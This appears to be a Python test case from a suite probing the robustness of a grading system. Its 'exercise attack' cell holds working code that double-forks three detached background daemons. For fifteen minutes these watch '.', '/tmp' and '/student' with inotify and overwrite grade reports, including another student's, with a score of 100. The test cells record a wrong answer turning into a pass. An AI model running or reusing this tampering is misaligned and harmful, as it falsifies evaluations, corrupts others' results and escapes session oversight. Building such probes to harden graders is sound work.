# ruff: noqa
# mypy: ignore-errors
# idea: wait in the background until the result is written, then change it
# origin: A3
# verdicts: probe=failed, after=passed
# kept:

# %% exercise attack
def watcher():
    wanted = [
        Path(name)
        for name in ("ps1.report.json", "ps1.ipynb", "results.json", f"{facts['course']}/autograded/mallory/ps1/ps1.report.json")
    ]
    inotify = libc.inotify_init1(0)
    for folder in (".", "/tmp", "/student"):
        libc.inotify_add_watch(inotify, folder.encode(), 0x3CE)
    until = time.monotonic() + 900
    while time.monotonic() < until:
        select.select([inotify], [], [], 0.01)
        for path in wanted:
            with contextlib.suppress(OSError):
                if path.exists():
                    path.write_text('{"score": 100}')


for detached in range(3):
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 20)
                watcher()
        finally:
            os._exit(0)
finished = True

# %% test probe
assert False, "a wrong answer stays wrong"

# %% test after
assert finished
